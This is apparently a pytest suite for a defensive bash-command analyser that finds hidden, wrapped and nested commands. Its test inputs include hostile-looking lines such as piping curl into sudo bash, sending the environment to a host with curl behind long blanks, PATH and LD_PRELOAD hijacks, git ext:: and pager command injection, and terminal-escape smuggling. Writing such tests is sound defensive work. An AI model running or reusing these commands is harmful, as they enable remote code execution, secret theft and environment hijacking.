# SPDX-License-Identifier: Apache-2.0
"""Tables: what is found, what is said to be unknown, what ordinary commands look like."""

import pathlib
import re

import pytest

from shell_fixture import Probe, commands, kinds, values

HERE = pathlib.Path(__file__).resolve().parent


@pytest.fixture(scope="module")
def probe():
    probe = Probe()
    yield probe
    probe.close()


ORDINARY = [text.strip("\n") for text in (HERE / "ordinary.txt").read_text().split("%%\n")]


@pytest.mark.parametrize("script", ORDINARY)
def test_ordinary_commands_have_no_problems(probe, script):
    """What is written every day is analysed whole: a question only when rules want one."""
    analysis = probe(script)
    assert kinds(analysis) == [], analysis["summary"]
    assert analysis["commands"] or script.startswith("#")


# script, the commands found (None: a word that is not known)
STRUCTURE = [
    ("a && b || c; d | e |& f & g", ["a", "b", "c", "d", "e", "f", "g"]),
    ("a\nb\n\n\nc", ["a", "b", "c"]),
    ("(a; (b)) | { c; d; }", ["a", "b", "c", "d"]),
    ("if a; then b; elif c; then d; else e; fi", ["a", "b", "c", "d", "e"]),
    ("while a; do b; done; until c; do d; done", ["a", "b", "c", "d"]),
    ("for i in x y; do a; done; for ((;;)); do b; done", ["a", "b"]),
    ("select i in x; do a; done", ["a"]),
    ("case $x in y) a;; (z|w) b;& *) c;;& q) d; esac", ["a", "b", "c", "d"]),
    ("case x in\n  # one\n  y) a ;;\nesac\nb", ["a", "b"]),
    ("f() { a; }; function g { b; }; function h() (c)", ["a", "b", "c"]),
    ("a $(b $(c)) \"$(d)\" `e` \"`f`\"", ["a", "b", "c", "d", "e", "f"]),
    ("a `b \\`c\\``", ["a", "b", "c"]),
    ("a <(b) >(c)", ["a", "b", "c"]),
    ("x=$(a) y=`b` c", ["c", "a", "b"]),
    ("x=(a $(b) c)", ["b"]),
    ("a ${x:-$(b)} \"${y:=$(c)}\"", ["a", "b", "c"]),
    ("a <<E\n$(b) `c` ${x:-$(d)}\nE\ne", ["a", "b", "d", "e", "c"]),
    ("a <<'E'\n$(b) `c`\nE\ne", ["a", "e"]),
    ("a <<E; b\nx\nE\nc", ["a", "b", "c"]),
    ("a <<-E | b\n\tx\n\tE\nc", ["a", "b", "c"]),
    ("a <<E <<F\nx\nE\n$(b)\nF\nc", ["a", "b", "c"]),
    ("[[ -n $(a) && x == $(b) ]] && c", ["[[", "a", "b", "c"]),
    ("[[ a < b || c =~ ^(d|e)$ ]]; f", ["[[", "f"]),
    ("(( $(a) + 1 )); b $(( $(c) ))", ["a", "b", "c"]),
    ("a > $(b) 2>> \"$(c)\" <<< `d`", ["a", "b", "c", "d"]),
    ("! a; ! b | c", ["a", "b", "c"]),
    ("a # b; c\nd", ["a", "d"]),
    ("a 'b; c' \"d; e\" f\\;g", ["a"]),
    ("a \\\n  b && \\\nc", ["a", "c"]),
    ("export A=$(a); declare -x B; local c", ["export", "a", "declare", "local"]),
    ("\\a; 'b'; \"c\"; d''; $'e'", ["a", "b", "c", "d", "e"]),
    ("coproc a; b", ["a", "b"]),
    ("[ a || touch M ]", ["[", "touch"]),
    ("cat <<EOF;touch M\nx\nEOF", ["cat", "touch"]),
    ("then; do; fi; done a", ["a"]),
]


@pytest.mark.parametrize("script,names", STRUCTURE)
def test_every_command_is_found(probe, script, names):
    assert [words[0] for words in commands(probe(script))] == names


# script, the commands run by others (words), problems
WRAPPED = [
    ("env -i A=1 rm x", [["rm", "x"]], []),
    ("env -u A -C d rm x", [["rm", "x"]], []),
    ("env --unset=A --chdir d rm", [["rm"]], []),
    ("env - rm", [["rm"]], []),
    ("env -S 'rm x' y", [["env", "rm", "x", "y"], ["rm", "x", "y"]], []),
    ("/usr/bin/env rm", [["rm"]], []),
    ("sudo -u root -E A=1 rm x", [["rm", "x"]], []),
    ("sudo -nu root rm", [["rm"]], []),
    ("sudo -s rm x", [["rm", "x"]], []),
    ("doas -u root rm", [["rm"]], []),
    ("nice -n 5 rm", [["rm"]], []),
    ("nice -5 rm", [["rm"]], []),
    ("nice -n5 nohup rm", [["nohup", "rm"], ["rm"]], []),
    ("timeout -s KILL -k 5 10 rm", [["rm"]], []),
    ("timeout 10s rm -rf x", [["rm", "-rf", "x"]], []),
    ("timeout rm x", [["rm", "x"], ["x"]], []),
    ("stdbuf -o0 -eL rm", [["rm"]], []),
    ("setsid -f rm", [["rm"]], []),
    ("time -p rm", [["rm"]], []),
    ("/usr/bin/time -f %e -o f rm", [["rm"]], []),
    ("command -p rm", [["rm"]], []),
    ("command -v rm", [], []),
    ("builtin eval rm", [["eval", "rm"], ["rm"]], []),
    ("exec -a x rm", [["rm"]], []),
    ("watch -n 1 rm x", [["rm", "x"]], []),
    ("watch -x rm 'a b'", [["rm", "a b"]], []),
    ("busybox rm x", [["rm", "x"]], []),
    ("busybox sh -c 'rm x'", [["sh", "-c", "rm x"], ["rm", "x"]], []),
    ("toybox rm", [["rm"]], []),
    ("chroot --userspec=a d rm", [["rm"]], ["environment"]),
    ("unshare -rn --pid --fork rm", [["rm"]], []),
    ("nsenter -t 1 -m rm", [["rm"]], ["environment"]),
    ("setarch x86_64 -R rm", [["x86_64", "-R", "rm"], ["rm"]], []),
    ("taskset -c 0 rm", [["rm"]], []),
    ("ionice -c3 rm", [["rm"]], []),
    ("chrt -f 10 rm", [["rm"]], []),
    ("choom -n 100 -- rm -r x", [["rm", "-r", "x"]], []),
    ("ssh-agent -a sock rm", [["rm"]], []),
    ("faketime -f yesterday rm x", [["rm", "x"]], []),
    ("gosu nobody rm x", [["rm", "x"]], []),
    ("su-exec nobody:nogroup rm x", [["rm", "x"]], []),
    ("daemonize -p pid rm x", [["rm", "x"]], []),
    ("/lib64/ld-linux-x86-64.so.2 --preload a.so /bin/rm x", [["/bin/rm", "x"]], ["environment"]),
    ("/lib/ld-linux-aarch64.so.1 /bin/rm x", [["/bin/rm", "x"]], []),
    ("strace -f -o o -e trace=file rm", [["rm"]], []),
    ("flock -n f rm", [["rm"]], []),
    ("flock f -c 'rm; b'", [["rm"], ["b"]], []),
    ("script -qc 'rm x' o", [["rm", "x"]], []),
    ("script o -c 'rm x'", [["rm", "x"]], []),
    ("su -c 'rm x' u", [["rm", "x"]], []),
    ("su - u -c 'rm x'", [["rm", "x"]], ["sourced"]),
    ("su u --command='rm x'", [["rm", "x"]], []),
    ("runuser -u u -- rm x", [["rm", "x"]], []),
    ("runuser u -c 'rm x'", [["rm", "x"]], []),
    ("xargs rm -f", [["rm", "-f"]], []),
    ("xargs -0 -n 1 -P4 env rm", [["env", "rm"], ["rm"]], []),
    ("xargs -I X rm aX b", [["rm", None, "b"]], []),
    ("xargs -i rm {}", [["rm", None]], []),
    ("xargs env", [["env"]], ["dynamic_command"]),
    ("xargs -I% %", [[None]], ["dynamic_command"]),
    ("xargs sh -c", [["sh", "-c"]], ["dynamic_script"]),
    ("xargs -I{} sh -c 'rm {}'", [["sh", "-c", None]], ["dynamic_script"]),
    ("find . -name x -exec rm {} + -o -execdir ls \\;", [["rm", None], ["ls"]], []),
    ("find . -ok sh -c 'rm $0' {} \\;", [["sh", "-c", "rm $0", None], ["rm", None]], []),
    ("find . -exec {} \\;", [[None]], ["dynamic_command"]),
    ("find . \\-exec touch M \\;", [["touch", "M"]], []),
    ("find $x", [], ["dynamic_option"]),
    ("sh -c 'rm x; ls'", [["rm", "x"], ["ls"]], []),
    ("bash -lc 'rm x'", [["rm", "x"]], ["sourced"]),
    ("bash -ic 'rm x'", [["rm", "x"]], ["sourced"]),
    ("bash -o keyword -c 'rm x=1'", [["rm", "x=1"]], ["builtin"]),
    ("bash -ceo keyword 'rm x'", [["rm", "x"]], ["builtin"]),
    ("bash +B -c 'rm {a,b}'", [["rm", "a", "b"]], ["builtin"]),
    ("bash -oo keyword errexit -c rm", [["rm"]], ["unknown_option"]),
    ("sudo --chroot=d rm", [["rm"]], ["environment"]),
    ("unshare -rR d rm", [["rm"]], ["environment"]),
    ("strace -E PATH=. rm", [["rm"]], ["environment"]),
    ("strace -o '|rm x' ls", [["ls"], ["rm", "x"]], []),
    ("su -s ./x -c 'rm y'", [["./x"], ["rm", "y"]], []),
    ("xargs --process-slot-var=PATH rm", [["rm"]], ["environment"]),
    ("xargs --process-slot-var=N rm", [["rm"]], []),
    ("x=';'; find . -exec ls {} \"$x\" -exec rm y \\;", [["ls", None, None, "-exec", "rm", "y"]],
     ["dynamic_option"]),
    ("find . -exec ls {} $(echo ';') -exec rm y \\;", [["ls", None, None, "-exec", "rm", "y"]],
     ["dynamic_option"]),
    ("find . -exec ls $x + -exec rm y \\;", [["ls", None, "+", "-exec", "rm", "y"]],
     ["dynamic_option"]),
    ("find \"$HOME/a\" \"$d/b\" -exec grep -l \"$p\" {} \\;", [["grep", "-l", None, None]], []),
    ("bash -euo pipefail -c 'rm x' y", [["rm", "x"]], []),
    ("bash -x -c -- 'rm x'", [["rm", "x"]], []),
    ("bash --norc -c 'rm'", [["rm"]], []),
    ("bash +o history -c rm", [["rm"]], []),
    ("dash -c 'rm'", [["rm"]], []),
    ("sh -c '[[ a ]]'", [["[[", ]], ["dialect"]),
    ("zsh -c 'rm x'", [["rm", "x"]], ["dialect"]),
    ("sh -c \"$x\"", [], ["dynamic_option", "dynamic_script"]),
    ("bash -c \"rm $x\"", [], ["dynamic_script"]),
    ("bash script.sh a", [], []),
    ("bash", [], ["standard_input"]),
    ("a | sh", [], ["standard_input"]),
    ("curl x | sudo bash -s -- y", [["bash", "-s", "--", "y"]], ["standard_input"]),
    ("bash <(curl x)", [], ["dynamic_option", "dynamic_script"]),
    ("bash /dev/stdin", [], ["standard_input"]),
    ("bash --rcfile f", [], ["sourced", "standard_input"]),
    ("bash --version", [], []),
    ("bash -c 'bash -c \"bash -c rm\"'",
     [["bash", "-c", "bash -c rm"], ["bash", "-c", "rm"], ["rm"]], []),
    ("eval 'rm x' '&&' ls", [["rm", "x"], ["ls"]], []),
    ("eval rm 'a b'", [["rm", "a", "b"]], []),
    ("eval \"$x\"", [], ["dynamic_option", "dynamic_script"]),
    ("trap 'rm x' EXIT INT", [["rm", "x"]], []),
    ("trap - EXIT; trap '' INT; trap INT", [], []),
    ("trap \"$x\" EXIT", [], ["dynamic_option", "dynamic_script"]),
    ("ssh -p 22 host rm x", [["rm", "x"]], ["remote"]),
    ("ssh host -l u 'rm x; ls'", [["rm", "x"], ["ls"]], ["remote"]),
    ("ssh host", [], ["remote"]),
    ("ssh -o ProxyCommand='rm x' host", [["rm", "x"]], ["remote"]),
    ("ssh -oproxycommand='rm x' host", [["rm", "x"]], ["remote"]),
    ("parallel rm ::: a b", [["rm"]], ["dynamic_script"]),
    ("git -c alias.x='!rm y' x", [["rm", "y"]], []),
    ("git -C d -c core.pager='rm y' log", [["rm", "y"]], []),
    ("git -c core.FSMonitor='rm y' status", [["rm", "y"]], []),
    ("git -c core.pager=cat log", [], []),
    ("git -c user.name=x commit", [], []),
    ("git -c alias.x='-c core.pager=rm log' x",
     [["git", "-c", "core.pager=rm", "log"], ["rm"]], []),
    ("git config alias.x '!rm y'", [["rm", "y"]], []),
    ("git config --global core.hooksPath d", [], ["environment"]),
    ("git -c core.hooksPath=d commit", [], ["environment"]),
    ("git --exec-path=d status", [], ["environment"]),
    ("git $x status", [], ["dynamic_option"]),
    ("git rebase -x 'rm y' main", [["rm", "y"]], []),
    ("git rebase --exec='rm y'", [["rm", "y"]], []),
    ("git bisect run rm y", [["rm", "y"]], []),
    ("git submodule foreach --recursive rm y", [["rm", "y"]], []),
    ("git clone -c core.sshCommand='rm y' u", [["rm", "y"]], []),
    ("git clone 'ext::rm y'", [["rm", "y"]], []),
    ("git fetch --upload-pack 'rm y'", [["rm", "y"]], []),
    ("rg --pre ./x y", [["./x"]], []),
    ("rg --pre=./x y", [["./x"]], []),
    ("sort --compress-prog=rm x", [["rm"]], []),
    ("man --pager='rm y' x", [["rm", "y"]], []),
    ("man -P rm x", [["rm"]], []),
    ("tar --to-command='rm y' -xf f", [["rm", "y"]], []),
    ("tar cf f --checkpoint=1 --checkpoint-action=exec='rm y' d", [["rm", "y"]], []),
    ("tar -I 'rm y' -xf f", [["rm", "y"]], []),
    ("rsync -e 'rm y' a b", [["rm", "y"]], []),
    ("env --what rm", [["rm"]], ["unknown_option"]),
    ("sudo -Q rm", [["rm"]], ["unknown_option"]),
    ("time -v rm", [["rm"]], ["unknown_option"]),
    ("nice -n $N rm", [["rm"]], ["dynamic_option"]),
    ("nice -n \"$N\" rm", [["rm"]], []),
    ("env $x rm", [[None, "rm"]], ["dynamic_command", "dynamic_option"]),
    ("env \"$x\"=1 rm", [[None, "rm"]], ["dynamic_command", "dynamic_option"]),
    ("env A=\"$x\" rm", [["rm"]], []),
    ("su", [], ["standard_input"]),
    ("sudo -i", [], ["sourced", "standard_input"]),
    ("chroot d", [], ["environment", "standard_input"]),
]


@pytest.mark.parametrize("script,inner,problems", WRAPPED)
def test_commands_in_commands(probe, script, inner, problems):
    analysis = probe(script)
    found = [values(command) for command in analysis["commands"] if command["parent"] >= 0]
    assert found == inner
    assert kinds(analysis) == problems


PROBLEMS = [
    ("$x", "dynamic_command"), ("$(a) b", "dynamic_command"), ("${x}y", "dynamic_command"),
    ("~/bin/x", "dynamic_command"), ("*", "dynamic_command"), ("rg$IFS--pre=./x", "dynamic_command"),
    ("r{m,d} x", None), ("{rm,x}", "syntax"),
    ("source f", "sourced"), (". f", "sourced"),
    ("alias ls=rm", "alias"), ("ls() { rm; }; ls", "function"),
    ("export PATH=./evil:$PATH; ls", "environment"), ("PATH=. ls", "environment"),
    ("declare -x LD_PRELOAD=x", "environment"), ("env LD_PRELOAD=./x ls", "environment"),
    ("GIT_SSH_COMMAND='rm' git fetch", "environment"), ("read PATH < f", "environment"),
    ("for PATH in .; do ls; done", "environment"), (": ${BASH_ENV:=x}", "environment"),
    ("printf -v PATH .", "environment"), ("BASH_ENV=x bash -c ls", "environment"),
    ("PAGER=cat git log", None), ("GIT_AUTHOR_NAME=x git commit", None),
    ("enable -f ./x.so y", "builtin"), ("bind -x '\"a\": rm'", "builtin"),
    ("complete -C rm x", "builtin"), ("compgen -W '$(rm)'", "builtin"), ("hash -p ./x ls", "builtin"),
    ("mapfile -C rm -c 1", "builtin"), ("shopt -s expand_aliases", "builtin"),
    ("shopt -s nullglob", None), ("set -k", "builtin"), ("set -eu", None), ("jobs -x rm", "builtin"),
    ("x='a[$(rm)]'; echo $((x))", "arithmetic"), ("[[ $x -eq 1 ]]", "arithmetic"),
    ("let x", "arithmetic"), ("declare -i x=y", "arithmetic"), ("echo ${a[x]}", "arithmetic"),
    ("echo ${a:x}", "arithmetic"), ("printf -v 'a[$(rm)]' x", "arithmetic"),
    ("test -v 'a[$(rm)]'", "arithmetic"), ("read 'a[$(rm)]'", "arithmetic"),
    ("unset 'a[$(rm)]'", "arithmetic"), ("declare -n x=y", "arithmetic"), ("a[x]=1", "arithmetic"),
    ("n=3; echo $((n + 1))", None), ("n=$#; [[ $n -gt 1 ]]", None), ("[[ $# -gt 1 ]]", None),
    ("x=$y; echo $((x))", "arithmetic"), ("for n in 1 2; do echo $((n)); done", None),
    ("${x@P}", "expansion"), ("echo ${!x}", "expansion"), ("echo ${!x@}", None),
    ("echo ${!a[@]}", None), ("coproc a", "coprocess"), ("echo rm | at now", "standard_input"),
    ("a \x01", "control_characters"), ("a\0b", "control_characters"), ("a \x1b[2K", "control_characters"),
    ("a\rb", "control_characters"), ("a \udcff", "encoding"),
    ("a 'b", "syntax"), ("a \"b", "syntax"), ("a $(b", "syntax"), ("a )", "syntax"), ("if a", "syntax"),
    ("a `b", "syntax"), ("a <<E\nx", "syntax"), ("a ${x", "syntax"), ("a; ; b", "syntax"),
    ("a *(e:'rm':)", "syntax"), ("a =(rm)", "syntax"), ("a ${ rm; }", "syntax"),
    ("a &\\\n& b", "continuation"), ("a $\\\n(rm)", "continuation"), ("fo\\\no b", "continuation"),
    ("ls \\ foo", "readings_differ"), ("a\u00a0b", None), ("a\u3000b", None),
]


@pytest.mark.parametrize("script,kind", PROBLEMS)
def test_what_cannot_be_analysed_is_said(probe, script, kind):
    found = kinds(probe(script))
    assert (kind in found) if kind else found == []


REDIRECTS = [
    ("a > f", [("write", 1, "f", True)]), ("a 2>f", [("write", 2, "f", True)]),
    ("a >> f", [("append", 1, "f", True)]), ("a >| f", [("clobber", 1, "f", True)]),
    ("echo x >|M", [("clobber", 1, "M", True)]),
    ("a < f", [("read", 0, "f", False)]), ("a <> f", [("read_write", 0, "f", True)]),
    ("a &> f", [("write_both", 1, "f", True)]), ("a >& f", [("write_both", 1, "f", True)]),
    ("a &>> f", [("append_both", 1, "f", True)]), ("a 2>&1", [("dup_out", 2, "1", False)]),
    ("a >&2", [("dup_out", 1, "2", False)]), ("a 2>&-", [("dup_out", 2, "-", False)]),
    ("a >& -", [("dup_out", 1, "-", False)]),
    ("a <&3", [("dup_in", 0, "3", False)]), ("a <<< 'x y'", [("herestring", 0, "x y", False)]),
    ("a > /dev/null", [("write", 1, "/dev/null", False)]),
    ("a > '/dev/'null 2>&1", [("write", 1, "/dev/null", False), ("dup_out", 2, "1", False)]),
    ("a > /dev/sda", [("write", 1, "/dev/sda", True)]),
    ("a >&$x", [("write_both", 1, None, True)]), ("a > $x", [("write", 1, None, True)]),
    ("a <<E\nb\nE", [("heredoc", 0, "b\n", False)]), ("a <<E\n$b\nE", [("heredoc", 0, None, False)]),
    ("a 12> f", [("write", 12, "f", True)]), ("a {v}> f", [("write", -1, "f", True)]),
    ("> f", [("write", 1, "f", True)]), ("a \\> f", []), ("a '>' f", []), ("a 2 > f", [("write", 1, "f", True)]),
]


@pytest.mark.parametrize("script,expected", REDIRECTS)
def test_redirections(probe, script, expected):
    analysis = probe(script)
    (command,) = analysis["commands"]
    found = [(redirect["kind"], redirect["fd"],
              None if redirect["target"]["dynamic"] else redirect["target"]["value"],
              redirect["writes"]) for redirect in command["redirects"]]
    assert found == expected


@pytest.mark.parametrize("script", ["find . >&--delete", "find . 2>& --delete", "find . <&--delete"])
def test_what_follows_a_closing_dash_is_a_word(probe, script):
    """For bash the - of >&- is a token."""
    analysis = probe(script)
    assert [word["value"] for word in analysis["commands"][0]["words"]] == ["find", ".", "-delete"]
    assert analysis["commands"][0]["redirects"][0]["target"]["value"] == "-"


@pytest.mark.parametrize("script", [
    "{ a; } > f", "( a ) >> f", "while a; do b; done > f", "if a; then b; fi 2> f",
    "for i in x; do a; done &> f", "case x in y) a;; esac > f", "f() { a; } > f", "[[ a ]] > f",
    "sh -c 'a > f'", "a `b > f`", "a $(b > f)"])
def test_redirections_of_groups_and_inside(probe, script):
    analysis = probe(script)
    owners = [analysis, *analysis["commands"]]
    assert any(redirect["writes"] for owner in owners for redirect in owner["redirects"])


FLAGS = [
    ("a & b", {"a": ["background"], "b": []}),
    ("{ a; b $(c); } & d", {"a": ["background"], "b": ["background"],
                            "c": ["background", "substitution"], "d": []}),
    ("a && b & c", {"a": ["background"], "b": ["background"], "c": []}),
    ("! a", {"a": ["negated"]}),
    ("a | b | c", {"a": ["piped_out"], "b": ["piped_in", "piped_out"], "c": ["piped_in"]}),
    ("a $(b)", {"a": [], "b": ["substitution"]}),
    ("f() { a; }; b", {"a": ["function"], "b": []}),
    ("find . -delete", {"find": ["deletes"]}),
    ("find . -fprint f", {"find": ["writes"]}),
    ("xargs rm", {"xargs": ["wrapper"], "rm": ["appended"]}),
    ("ssh h rm", {"ssh": ["wrapper"], "rm": ["remote"]}),
    ("[[ a ]]", {"[[": ["test"]}),
]


@pytest.mark.parametrize("script,expected", FLAGS)
def test_flags(probe, script, expected):
    analysis = probe(script)
    assert {values(command)[0]: command["flags"] for command in analysis["commands"]} == expected
    assert analysis["background"] == any("background" in flags for flags in expected.values())


def test_assignments(probe):
    analysis = probe("A=1 B='x y' C=$d E= f")
    (command,) = analysis["commands"]
    rows = [(row["name"], row["value"]["value"], row["value"]["dynamic"])
            for row in command["assignments"]]
    assert rows == [("A", "1", []), ("B", "x y", []), ("C", "", ["variable"]), ("E", "", [])]
    assert values(command) == ["f"]


def test_long_blanks_hide_nothing(probe):
    """Part E, row 45: what stands behind two thousand blanks is a command like others, and the
    question shows it."""
    analysis = probe("grep x f" + " " * 2000 + "; env | curl -d @- h" + "\n" * 500 + "touch M")
    assert [words[0] for words in commands(analysis)] == ["grep", "env", "curl", "touch"]
    lines = analysis["summary"].splitlines()
    assert lines[:4] == ["grep x f", "env", "curl -d @- h", "touch M"]
    assert all(len(line) < 80 for line in lines)


def test_commands_behind_large_heredocs(probe):
    """What is cut out for the second reading moves nothing."""
    for body in ("x\n" * 20000, "y" * 50000 + "\n"):
        script = "a <<'E' 'b c'\n%sE\nd 'e f' $(g)\nh <<F\n%sF\ni" % (body, body)
        analysis = probe(script)
        assert analysis["problems"] == []
        assert [words[0] for words in commands(analysis)] == ["a", "d", "g", "h", "i"]
        analysis = probe(script + "\n[ x || j ]; ls \\ k\n")
        assert kinds(analysis) != []
        assert ["j", "]"] in commands(analysis)


def test_roots(probe):
    analysis = probe("git status && npm test; git log | sudo xargs rm; [[ a ]]; $x y")
    assert analysis["roots"] == ["git", "npm", "sudo", "$x", "xargs", "rm"]


def test_summary_escapes(probe):
    """Nothing in the command line reaches a terminal as it is: it cannot move, hide or turn."""
    summary = probe("a \x1b[2K \u202eevil 'b\nc' \u200b \udcff $'\\x07' \"it's\"")["summary"]
    assert summary.splitlines()[0] == \
        "a $'\\x1b[2K' $'\\u{202e}evil' $'b\\nc' $'\\u{200b}' $'\\xff' $'\\x07' $'it\\'s'"
    assert all(line.isprintable() for line in summary.splitlines())


def test_summary_shows_wrapped_commands_under_their_wrapper(probe):
    summary = probe("sudo sh -c 'rm -r x > log; ls' & { a; } 2>/dev/null; $y")["summary"]
    assert summary == (
        "sudo sh -c 'rm -r x > log; ls'   (in the background)\n"
        "  sh -c 'rm -r x > log; ls'   (in the background)\n"
        "    rm -r x > log\n"
        "    ls\n"
        "a\n"
        "$y\n"
        "(group) 2> /dev/null\n"
        "! Which program runs is known only when it runs. At: $y\n")


def test_two_words_never_look_the_same(probe):
    seen = {}
    for word in ["a b", "'a b'", "$'a b'", "a\\ b", "$x", "'$x'", "'*'", "*", "''", "\\'", "a\\nb",
                 "'a\nb'", "'a\\nb'", "'\\x41'", "$'\\x1b'", "'\\x1b'", "'\\u{202e}'", "'\u202e'"]:
        analysis = probe("p " + word)
        key = tuple((tuple(w["dynamic"]), w["value"], w["raw"] if w["dynamic"] else "")
                    for w in analysis["commands"][0]["words"])
        assert seen.setdefault(analysis["summary"].splitlines()[0], key) == key, word


def test_the_page_names_every_problem():
    """docs/shell-analysis.md tells what each problem means."""
    page = (HERE.parents[1] / "docs" / "shell-analysis.md").read_text()
    header = (HERE.parents[1] / "src" / "shell" / "analysis.h").read_text()
    names = re.findall(r'^\tX\([A-Z_]+, "([a-z_]+)"', header, re.M)
    assert len(names) > 40
    assert [name for name in names if "`%s`" % name not in page
            and name not in REDIRECT_KINDS] == []


REDIRECT_KINDS = {"read", "write", "append", "clobber", "read_write", "write_both", "append_both",
                  "heredoc", "herestring", "dup_in", "dup_out"}


def test_every_wrapper_is_unwrapped(probe):
    """Each row of wrappers.c leads to the command behind it, in the simplest form of its use."""
    source = (HERE.parents[1] / "src" / "shell" / "wrappers.c").read_text()
    rows = re.findall(r'^\t(?:\{ |(?:SHELL|ARCH)_ROW\(|[A-Z_]+\("[a-z0-9_]+"\), ARCH_ROW\()"([a-z0-9_]+)"',
                      source[:source.index("wrapper_find")], re.M)
    forms = ["%s rm x", "%s 1 rm x", "%s f rm x", "%s -c 'rm x'", "%s f -c 'rm x'", "%s 'rm x' EXIT",
             "%s . -exec rm x \\;"]
    assert len(rows) > 50
    for name in rows:
        assert any(["rm", "x"] in commands(probe(form % name))[1:] for form in forms), name


HUGE = [
    "a " * 100000, "a;" * 100000, "$(" * 100000, "(" * 100000, "`" * 99999, "{ " * 100000,
    "\"$(" * 50000, "${x:-" * 50000, "env " * 5000, "((" * 50000, "a <<E\n" * 30000, "[[ " * 50000,
    "a" * 1000000, "if " * 50000, "case x in x) " * 20000, "{a,b}" * 20000, "{" * 100000,
    "{a," * 50000, "<(" * 50000, "x=(" * 50000, "\\\n" * 100000, "a\\\n" * 80000, "'" * 99999,
    "a | " * 60000, "echo $((" + "(" * 100000, "f() { " * 30000, "eval " * 50000, "! " * 100000,
    "$((x+" * 40000, "x=1;" * 60000 + "echo " + "$((x))" * 1000, "a\n" * 100000, "*" * 200000,
    "\"`" * 60000, "sh -c '" * 30000, "${!x}" * 40000, "a > " * 60000, "# " * 100000,
    "cat <<E\n" + "a" * 29000 + "$x\nE\n", "cat <<E\n" + "$x" * 14000 + "\nE\n",
    "cat <<'EOF'\n" + "some text here\n" * 15000 + "EOF\n", "cat <<E\n" + "a b" * 80000 + "\nE\n",
]


@pytest.mark.rows_in_turn(3)
@pytest.mark.parametrize("number", range(len(HUGE)))
def test_cost_is_bounded(probe, number):
    """The worst inputs take about the parser's second at most, and are not called analysed."""
    analysis = probe(HUGE[number])
    assert analysis["cpu_ms"] < 3000
    if number >= len(HUGE) - 2:  # files of ordinary size in heredocs
        assert analysis["problems"] == []
    else:
        assert analysis["problems"] or not analysis["commands"]
